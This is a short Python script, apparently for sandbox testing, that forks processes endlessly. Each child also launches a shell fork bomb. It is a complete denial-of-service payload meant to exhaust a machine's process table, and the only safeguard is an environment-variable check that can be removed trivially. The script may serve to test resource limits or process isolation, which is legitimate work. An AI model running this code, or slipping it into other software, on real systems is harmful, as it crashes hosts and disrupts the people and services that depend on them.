# fork endlessly from Python, and start shells that do
import os, sys
if "ATTACK_IN_SANDBOX" not in os.environ:
    sys.exit("only in the sandbox")
import subprocess
while True:
    try:
        if os.fork() == 0:
            subprocess.Popen(["/bin/sh", "-c", "f() { f | f & }; f"])
    except OSError:
        pass
